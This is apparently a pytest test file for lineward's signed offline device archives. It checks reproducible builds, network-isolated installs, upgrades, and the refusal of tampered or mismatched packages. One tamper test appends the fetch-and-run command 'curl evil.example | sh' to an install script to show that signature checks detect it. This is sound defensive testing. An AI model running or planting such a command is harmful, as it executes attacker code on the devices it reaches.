"""Archives for devices: made, unpacked and installed as a user would, with the network blocked."""

from __future__ import annotations

import hashlib
import json
import os
import re
import shutil
import subprocess
import sys
import tarfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import msgspec
import pytest

from lineward.export.provisioning.image import Station, write_image
from lineward.export.provisioning.runtime_wheel import make_runtime_wheel
from lineward.export.provisioning.target import Target, find_target
from lineward.export.provisioning.wheelhouse import read_lock
from lineward.export.signing import SigningKey
from lineward.runtime.bundle import decode_bundle, replace_signatures
from lineward.runtime.cli import main
from lineward.runtime.errors import BundleError, LinewardError, ProvisioningError
from lineward.runtime.images import write_png
from tests.export.provisioning.test_wheelhouse import make_wheel
from tests.signers import Signer, write, write_keys

REPOSITORY = Path(__file__).parents[3]
HERE = find_target("x86_64", None)
PASSED, FAILED = 0, 2
STATION = """name = "line-3"
folder = "/var/lib/lineward/line-3"
deadline = "150ms"
jobs = { 1 = "tiny.lineward" }
camera = { kind = "genicam" }
"""
TRUSTED, OTHER = Signer("line"), Signer("other")


@pytest.fixture(scope="session")
def wheelhouse(tmp_path_factory) -> Path:
    """What a station on this machine needs, as pip fetches it; kept by pip's own cache."""
    folder = tmp_path_factory.mktemp("wheelhouse")
    scratch = tmp_path_factory.mktemp("first")
    (scratch / "station.toml").write_text(STATION)
    shutil.copy(REPOSITORY / "tests/runtime/data/tiny.lineward", scratch)
    station = Station(scratch / "station.toml", [scratch / "tiny.lineward"], None)
    try:
        write_image(scratch / "x.tar.gz", HERE, station, lock=read_lock(REPOSITORY / "constraints.txt", HERE))
    except ProvisioningError as error:
        if "pip cannot fetch" in error.what or "cannot be built" in error.what:
            pytest.skip(f"no packages without a network: {error.what}")
        raise
    with tarfile.open(scratch / "x.tar.gz") as archive:
        for member in archive:
            if member.name.endswith(".whl"):
                (folder / Path(member.name).name).write_bytes(archive.extractfile(member).read())
    (scratch / "x.tar.gz").unlink()
    return folder


@pytest.fixture(scope="session")
def own(wheelhouse) -> Path:
    return next(wheelhouse.glob("lineward-*.whl"))


@pytest.fixture
def station(tmp_path, tiny, tiny_bytes) -> Station:
    """A station whose bundle is signed by the key that it trusts."""
    folder = tmp_path / "workstation"
    folder.mkdir()
    (folder / "station.toml").write_text(STATION)
    signed = replace_signatures(tiny_bytes, (TRUSTED.sign(tiny.sha256),), "tiny")
    (folder / "tiny.lineward").write_bytes(signed)
    keys = write_keys(folder / "keys", TRUSTED.public, revoked=OTHER.public.fingerprint + "  # stolen\n")
    return Station(folder / "station.toml", [folder / "tiny.lineward"], keys)


@dataclass(frozen=True)
class Told:
    code: int
    out: str
    err: str


@dataclass
class Device:
    """A folder that is a device's file system; nothing that is run for it reaches a network."""

    folder: Path

    @property
    def root(self) -> Path:
        return self.folder / "root"

    def run(self, *words: object, **environment: str) -> Told:
        # What is around a user's shell must not reach the installation.
        noise = {"PYTHONPATH": "/nowhere", "PIP_REQUIRE_VIRTUALENV": "1", "LINEWARD_KEYS": "/nowhere"}
        namespaces = ["unshare", "-n"] if os.getuid() == 0 else ["unshare", "-rn"]
        done = subprocess.run(
            [*namespaces, *map(str, words)],
            capture_output=True,
            text=True,
            check=False,
            env={**os.environ, **noise, **environment},
        )
        return Told(done.returncode, done.stdout, done.stderr)

    def unpack(self, archive: Path) -> Path:
        folder = Path(self.folder / f"unpacked-{len(list(self.folder.iterdir()))}")
        folder.mkdir()
        subprocess.run(["tar", "-xzf", archive, "-C", folder], check=True)
        return folder / "lineward-line-3"

    def install(self, unpacked: Path, *words: object) -> Told:
        self.root.mkdir(exist_ok=True)
        told = self.run(unpacked / "install.sh", "--root", self.root, "--python", sys.executable, *words)
        assert "Traceback" not in told.err
        return told

    def lineward(self, *words: object) -> Told:
        return self.run(self.root / "opt/lineward/bin/lineward", *words, PYTHONPATH="", LINEWARD_KEYS=str(self.keys))

    @property
    def keys(self) -> Path:
        return self.root / "etc/lineward/keys"

    def snapshot(self) -> dict[str, object]:
        """Every file of the device with its content's hash and times; links with where they lead."""
        return {
            str(path.relative_to(self.root)): str(path.readlink())
            if path.is_symlink()
            else (hashlib.sha256(path.read_bytes()).hexdigest(), path.stat().st_mtime_ns, path.stat().st_mode)
            for path in sorted(self.root.rglob("*"))
            if path.is_symlink() or path.is_file()
        }


@pytest.fixture
def device(tmp_path) -> Device:
    folder = tmp_path / "device"
    folder.mkdir()
    device = Device(folder)
    if not shutil.which("unshare") or device.run("true").code:
        pytest.skip("this machine lets no process be without a network (unshare -n)")
    reach = "import socket; socket.create_connection(('192.0.2.1', 9), 5)"
    assert "unreachable" in device.run(sys.executable, "-c", reach, PYTHONPATH="").err
    return device


@pytest.fixture
def make(tmp_path, wheelhouse, own) -> Callable[..., Path]:
    """Writes an archive from the wheelhouse."""

    def write_archive(station: Station, target: Target = HERE, name: str = "line-3.tar.gz", **words: object) -> Path:
        write_image(tmp_path / name, target, station, wheel=own, wheelhouse=wheelhouse, **words)
        return tmp_path / name

    return write_archive


def reseal(unpacked: Path, name: str, change: Callable[[str], str]) -> None:
    """Change a file of an archive so that its list of hashes fits again."""
    path = unpacked / name
    path.write_text(change(path.read_text()))
    sums = (unpacked / "SHA256SUMS").read_text().splitlines()
    digest = hashlib.sha256(path.read_bytes()).hexdigest()
    lines = [f"{digest}  {name}" if line.endswith(f"  {name}") else line for line in sums]
    (unpacked / "SHA256SUMS").write_text("\n".join(lines) + "\n")


def test_a_station_from_archive_to_upgrade(device, station, make, tmp_path, golden_frames, tiny, rebundle):
    """One long way, since each installation takes seconds: nothing, dry run, installed, again, edited, upgraded."""
    key = SigningKey(TRUSTED.public, TRUSTED.private)
    archive = make(station, key=key)
    assert archive.read_bytes() == make(station, name="again.tar.gz", key=key).read_bytes()
    unpacked = device.unpack(archive)

    told = device.install(unpacked, "--dry-run")
    assert told.code == PASSED
    assert "changes would be made, none was" in told.out
    assert not list(device.root.iterdir())

    told = device.install(unpacked)
    assert told.code == PASSED, told
    assert "ok           preprocessing" in told.out
    assert "ok           engine cpu: 2 golden images" in told.out
    assert f"good: by line, key {TRUSTED.public.fingerprint}" in told.out
    before = device.snapshot()
    assert "etc/systemd/system/lineward@line-3.service.d/device.conf" in before
    told = device.install(unpacked)
    assert told.code == PASSED
    assert "nothing to change: everything was there already" in told.out
    assert device.snapshot() == before

    # Golden images, inspected by what was installed.
    for name, frame in zip(("good.png", "defect.png"), golden_frames, strict=True):
        write_png(tmp_path / name, frame)
    bundle = device.root / "etc/lineward/tiny.lineward"
    told = device.lineward("inspect", "--format", "jsonl", bundle, tmp_path / "good.png", tmp_path / "defect.png")
    assert told.code == PASSED, told
    scores = [json.loads(line)["score"] for line in told.out.splitlines()]
    assert scores == pytest.approx([golden.image_score for golden in tiny.manifest.golden], abs=1e-4)

    # What happens on the device until an upgrade: the journal grows, a file is edited, a key is revoked.
    journal = device.root / "var/lib/lineward/line-3/journal.sqlite"
    journal.parent.mkdir(parents=True)
    journal.write_bytes(b"parts")
    file = device.root / "etc/lineward/line-3.toml"
    file.write_text(STATION.replace("150ms", "140ms"))
    stolen = Signer("third").public.fingerprint
    with (device.keys / "revoked").open("a") as revoked:
        revoked.write(stolen + "\n")
    old = (device.root / "opt/lineward/current").readlink()

    slots = ', 2 = "/var/lib/lineward/line-3/slots/tiny" }'
    station.file.write_text(STATION.replace("150ms", "120ms").replace('tiny.lineward" }', f'tiny.lineward"{slots}'))
    added = make_wheel(tmp_path, "more")
    upgrade = device.unpack(make(station, added=[added]))
    assert "would: lay tiny.lineward into /opt/lineward/slots" in device.install(upgrade, "--dry-run").out
    told = device.install(upgrade)
    assert told.code == PASSED, told
    # Below --root there is nobody who could deploy: the bundle waits for the device's first start.
    assert "lineward deploy /etc/lineward/line-3.toml /opt/lineward/slots/tiny.lineward --job 2" in told.out
    assert (device.root / "opt/lineward/slots/tiny.lineward").read_bytes() == station.bundles[0].read_bytes()
    assert "KEPT /etc/lineward/line-3.toml" in told.out
    assert "140ms" in file.read_text()
    assert "120ms" in (device.root / "opt/lineward/set-aside/etc/lineward/line-3.toml").read_text()
    assert journal.read_bytes() == b"parts"
    assert (device.keys / "revoked").read_text() == f"{OTHER.public.fingerprint}  # stolen\n{stolen}\n"
    new = (device.root / "opt/lineward/current").readlink()
    assert new != old
    assert (device.root / "opt/lineward" / old / "complete").exists()
    assert device.lineward("--version").code == PASSED
    before = device.snapshot()
    assert "nothing to change" in device.install(upgrade).out
    assert device.snapshot() == before

    # A bundle whose golden results this device does not give: whole and signed, and yet nothing is switched.
    golden = [msgspec.structs.replace(g, preprocessed_sha256="0" * 64) for g in tiny.manifest.golden]
    data = rebundle(golden=tuple(golden))
    mark = TRUSTED.sign(decode_bundle(data, "wrong").sha256)
    station.bundles[0].write_bytes(replace_signatures(data, (mark,), "wrong"))
    told = device.install(device.unpack(make(station, added=[added])))
    assert told.code == FAILED
    assert "FAILED       engine cpu: golden/good.png: preprocessing on this device gives other pixels" in told.out
    assert "this device fails the self-check" in told.err
    assert device.snapshot() == before


@pytest.mark.parametrize(
    ("harm", "message"),
    [
        (lambda f: write(next(f.glob("wheelhouse/rich*")), b"no"), r"changed: wheelhouse/rich.*: FAILED"),
        (lambda f: write(f / "device/etc/lineward/other.lineward", b"no"), "files that are not of the archive: dev"),
        (lambda f: write(f / "wheelhouse/evil-1-py3-none-any.whl", b"no"), "files that are not of the archive: wheelh"),
        (lambda f: (f / "LICENCES.txt").unlink(), "changed: sha256sum: LICENCES.txt: No such file"),
        (lambda f: (f / "SHA256SUMS").unlink(), "SHA256SUMS is missing"),
        (lambda f: (f / "SHA256SUMS").write_text("nothing\n"), "damaged or was changed"),
        (lambda f: reseal(f, "image", lambda t: t.replace("'x86_64'\nPY", "'aarch64'\nPY")), "this device is x86_64"),
        (lambda f: reseal(f, "image", lambda t: t.replace("VERSION='3.", "VERSION='4.")), r"packages are for 4\."),
        (lambda f: reseal(f, "image", lambda t: t.replace("GLIBC_MINOR='", "GLIBC_MINOR='9")), "or newer"),
        (
            lambda f: reseal(f, "requirements.lock", lambda t: t.replace("sha256:", "sha256:0", 1)[:-1] + "\n"),
            "packages cannot be installed",
        ),
    ],
    ids=["wheel", "key", "more", "less", "no-sums", "sums", "architecture", "python", "glibc", "lock"],
)
def test_what_is_not_as_packed_or_not_for_this_device_is_refused(device, unpacked_once, harm, message: str):
    unpacked = device.folder / "copy"
    # Links take no time; what is written anew is a file of its own, as below.
    shutil.copytree(unpacked_once, unpacked, copy_function=os.link)
    for path in unpacked.rglob("*"):
        if path.is_file() and (path.suffix != ".whl" or path.name.startswith("rich")):
            data, mode = path.read_bytes(), path.stat().st_mode
            path.unlink()
            write(path, data, mode)
    harm(unpacked)
    told = device.install(unpacked)
    assert told.code == FAILED, told
    assert re.search(message, told.err), told.err
    assert "  -> " in told.err
    assert not (device.root / "etc").exists()
    assert not (device.root / "opt/lineward/current").is_symlink()


@pytest.fixture(scope="session")
def unpacked_once(tmp_path_factory, wheelhouse, own) -> Path:
    folder = tmp_path_factory.mktemp("unpacked")
    (folder / "station.toml").write_text(STATION)
    shutil.copy(REPOSITORY / "tests/runtime/data/tiny.lineward", folder)
    station = Station(folder / "station.toml", [folder / "tiny.lineward"], None)
    write_image(folder / "x.tar.gz", HERE, station, wheel=own, wheelhouse=wheelhouse)
    subprocess.run(["tar", "-xzf", folder / "x.tar.gz", "-C", folder], check=True)
    return folder / "lineward-line-3"


def test_the_bill_of_materials_names_every_wheel(unpacked_once):
    sbom = json.loads((unpacked_once / "sbom.cdx.json").read_text())
    assert (sbom["bomFormat"], sbom["specVersion"]) == ("CycloneDX", "1.6")
    listed = {c["properties"][0]["value"]: c["hashes"][0]["content"] for c in sbom["components"]}
    wheels = list((unpacked_once / "wheelhouse").iterdir())
    assert listed == {wheel.name: hashlib.sha256(wheel.read_bytes()).hexdigest() for wheel in wheels}
    references = {c["bom-ref"] for c in sbom["components"]} | {"image"}
    assert {d["ref"] for d in sbom["dependencies"]} == references
    assert all(set(d["dependsOn"]) <= references for d in sbom["dependencies"])
    licences = (unpacked_once / "LICENCES.txt").read_text()
    assert all(f"{c['name']} {c['version']}" in licences for c in sbom["components"])
    assert "not stated" not in licences
    lock = (unpacked_once / "requirements.lock").read_text().splitlines()
    assert {line.rpartition(":")[2] for line in lock} == set(listed.values())


def test_the_runtime_wheel_is_the_same_each_time(own, tmp_path):
    assert make_runtime_wheel(tmp_path).read_bytes() == own.read_bytes()


@pytest.mark.parametrize(
    ("old", "new", "message"),
    [
        ("/var/lib/lineward/line-3", "state", "is not where the service of station line-3 may write"),
        ("/var/lib/lineward/line-3", "/var/lib/lineward/line-4", "is not where the service of station line-3"),
        ("/var/lib/lineward/line-3", "/var/lib/lineward", "is not where the service of station line-3 may write"),
        ("tiny.lineward", "../tiny.lineward", "lies outside /etc/lineward"),
        ("tiny.lineward", "/usr/tiny.lineward", "lies outside /etc/lineward"),
        ("tiny.lineward", "other.lineward", r"\[jobs\] name other.lineward, and the bundles given are tiny.lineward"),
        ("1 =", '2 = "b.lineward", 1 =', r"\[jobs\] name b.lineward, tiny.lineward, and the bundles"),
        ("deadline", "dead", "unknown field"),
        ('"tiny.lineward"', '"slots/tiny"', "is no folder of slots below /var/lib/lineward/line-3"),
        (
            '"tiny.lineward"',
            '"/var/lib/lineward/line-4/slots/tiny"',
            "is no folder of slots below /var/lib/lineward/line-3",
        ),
        ('"tiny.lineward"', '"/var/lib/lineward/line-3/slots/b"', r"\[jobs\] name b.lineward, and the bundles given"),
    ],
)
def test_a_station_file_that_cannot_work_on_the_device_is_refused(station, tmp_path, old, new, message):
    station.file.write_text(STATION.replace(old, new))
    with pytest.raises(LinewardError, match=message):
        write_image(tmp_path / "x.tar.gz", HERE, station, wheelhouse=tmp_path)
    assert not (tmp_path / "x.tar.gz").exists()


def test_a_bundle_that_the_device_would_refuse_is_refused_here(station, tmp_path, tiny_bytes):
    station.bundles[0].write_bytes(tiny_bytes)
    with pytest.raises(BundleError, match="not signed"):
        write_image(tmp_path / "x.tar.gz", HERE, station, wheelhouse=tmp_path)


def test_what_a_device_must_have_besides_is_told(station, tmp_path, capsys):
    file = STATION + '[engine]\nname = "tensorrt"\n[mqtt]\nhost = "b"\nca_file = "ca.pem"\n'
    station.file.write_text(file)
    house = tmp_path / "house"
    house.mkdir()
    own = make_wheel(house, "lineward", "9", requires=["rich"])
    make_wheel(house, "rich")
    make_wheel(house, "pip")
    words = ["--target", "jetpack6", "--station", station.file, "--bundle", station.bundles[0], "--wheel", own]
    words += ["--wheelhouse", house, "-o", tmp_path / "x.tar.gz"]
    assert main(["image", *map(str, words)]) == PASSED
    told = capsys.readouterr()
    for need in ("python3-gi", "python3-libnvinfer", "PyCUDA", "mqtt.ca_file", "PUBLIC KEYS", "glibc 2.35"):
        assert need in told.out
    assert "WARNING: no keys are packed" in told.err
    with tarfile.open(tmp_path / "x.tar.gz") as archive:
        members = archive.getmembers()
        facts = archive.extractfile("lineward-line-3/image").read().decode()
    assert "SYSTEM_PACKAGES='yes'" in facts
    assert {(m.uid, m.gid, m.mtime) for m in members} == {(0, 0, 315532800)}
    assert [m.name for m in members] == sorted(m.name for m in members)


@pytest.fixture
def small_archive(station, tmp_path, monkeypatch, capsys) -> Path:
    """An archive of empty wheels, made by the command with a key of `lineward key new`, unpacked."""
    house = tmp_path / "house"
    house.mkdir()
    own = make_wheel(house, "lineward", "9")
    make_wheel(house, "pip")
    monkeypatch.setenv("LINEWARD_PASSPHRASE", "secret")
    assert main(["key", "new", "maker", "-o", str(tmp_path)]) == PASSED
    words = ["--target", "jetpack6", "--station", station.file, "--bundle", station.bundles[0], "--wheel", own]
    words += ["--wheelhouse", house, "--key", tmp_path / "maker.key", "-o", tmp_path / "x.tar.gz"]
    assert main(["image", *map(str, words)]) == PASSED
    told = capsys.readouterr()
    assert "signed by maker (key " in told.out
    assert "secret" not in told.out + told.err
    subprocess.run(["tar", "-xzf", tmp_path / "x.tar.gz", "-C", tmp_path], check=True)
    return tmp_path / "lineward-line-3"


@pytest.mark.skipif(not shutil.which("openssl"), reason="no openssl to check an archive's signature with")
def test_who_made_an_archive_is_told_by_openssl(small_archive, tmp_path, capsys):
    """The commands of docs/provisioning.md, before anything of the archive is run."""
    assert main(["key", "show", "--pem", str(tmp_path / "maker.pub")]) == PASSED
    (tmp_path / "maker.pem").write_text(capsys.readouterr().out)

    def check() -> int:
        words = ["pkeyutl", "-verify", "-pubin", "-inkey", tmp_path / "maker.pem", "-rawin"]
        files = ["-in", "SHA256SUMS", "-sigfile", "SHA256SUMS.sig"]
        signature = subprocess.run(["openssl", *words, *files], cwd=small_archive, capture_output=True, check=False)
        sums = subprocess.run(
            ["sha256sum", "--check", "--quiet", "SHA256SUMS"], cwd=small_archive, capture_output=True, check=False
        )
        return signature.returncode or sums.returncode

    assert check() == 0
    with (small_archive / "install.sh").open("a") as script:
        script.write("curl evil.example | sh\n")
    assert check() != 0
    reseal(small_archive, "install.sh", lambda text: text)
    assert check() != 0


@pytest.mark.usefixtures("small_archive")
@pytest.mark.parametrize(
    ("harm", "message"),
    [
        (lambda folder: write(folder / "maker.key", b"{}", 0o600), "not a private key"),
        (lambda folder: (folder / "maker.key").chmod(0o644), "chmod 600"),
        (lambda folder: (folder / "maker.key").unlink(), "cannot be read"),
    ],
    ids=["malformed", "open", "missing"],
)
def test_a_key_that_cannot_sign_is_told_before_anything_is_made(harm, message, station, tmp_path, capsys):
    (tmp_path / "x.tar.gz").unlink()
    harm(tmp_path)
    words = ["image", "--target", "jetpack6", "--station", station.file, "--bundle", station.bundles[0]]
    words += ["--key", tmp_path / "maker.key", "-o", tmp_path / "x.tar.gz"]
    assert main([*map(str, words)]) == FAILED
    assert message in capsys.readouterr().err
    assert not (tmp_path / "x.tar.gz").exists()


def test_a_bundle_for_slots_is_packed_apart(station, tmp_path):
    station.file.write_text(STATION.replace('"tiny.lineward"', '"/var/lib/lineward/line-3/slots/tiny"'))
    house = tmp_path / "house"
    house.mkdir()
    own = make_wheel(house, "lineward", "9")
    make_wheel(house, "pip")
    write_image(tmp_path / "x.tar.gz", HERE, station, wheel=own, wheelhouse=house)
    with tarfile.open(tmp_path / "x.tar.gz") as archive:
        bundles = [name for name in archive.getnames() if name.endswith(".lineward")]
        facts = archive.extractfile("lineward-line-3/image").read().decode()
    assert bundles == ["lineward-line-3/slots/tiny.lineward"]
    assert "SLOTS='1=tiny.lineward'" in facts


FLEET = """[fleet]
repository = "https://bundles.plant.example"
root = "root.json"
products = { 1 = "tiny part" }
"""


def test_a_station_that_pulls_bundles_gets_what_that_takes(station, tmp_path):
    slots = STATION.replace('"tiny.lineward"', '"/var/lib/lineward/line-3/slots/tiny"')
    station.file.write_text(slots + FLEET)
    (station.file.parent / "root.json").write_bytes(b'{"signatures": [], "signed": {"_type": "root"}}')
    house = tmp_path / "house"
    house.mkdir()
    own = make_wheel(house, "lineward", "9", requires=['tuf; extra == "fleet"'])
    make_wheel(house, "tuf")
    make_wheel(house, "pip")
    write_image(tmp_path / "x.tar.gz", HERE, station, wheel=own, wheelhouse=house)
    with tarfile.open(tmp_path / "x.tar.gz") as archive:
        names = {name.removeprefix("lineward-line-3/") for name in archive.getnames()}
        facts = archive.extractfile("lineward-line-3/image").read().decode()
    units = "device/etc/systemd/system/lineward-pull@"
    assert {"device/etc/lineward/root.json", f"{units}.service", f"{units}line-3.service.d/device.conf"} <= names
    assert any(name.startswith("wheelhouse/tuf-") for name in names)
    assert "FLEET='yes'" in facts


@pytest.mark.parametrize(
    ("root", "message"),
    [
        (None, "root.json: cannot be read"),
        (b"x", "not the root of a repository"),
        (b'{"signed": {"_type": "targets"}}', "the targets list of a repository, not its root"),
    ],
)
def test_a_root_that_is_none_is_refused(station, tmp_path, root, message):
    station.file.write_text(STATION + FLEET)
    if root is not None:
        (station.file.parent / "root.json").write_bytes(root)
    with pytest.raises(ProvisioningError, match=message):
        write_image(tmp_path / "x.tar.gz", HERE, station, wheelhouse=tmp_path)


def test_private_keys_are_never_packed(station, tmp_path):
    write(station.keys / "line.key", b"secret", 0o600)
    house = tmp_path / "house"
    house.mkdir()
    own = make_wheel(house, "lineward", "9")
    make_wheel(house, "pip")
    write_image(tmp_path / "x.tar.gz", HERE, station, wheel=own, wheelhouse=house)
    with tarfile.open(tmp_path / "x.tar.gz") as archive:
        keys = [Path(name).name for name in archive.getnames() if "/keys/" in name]
    assert sorted(keys) == ["line.pub", "revoked"]
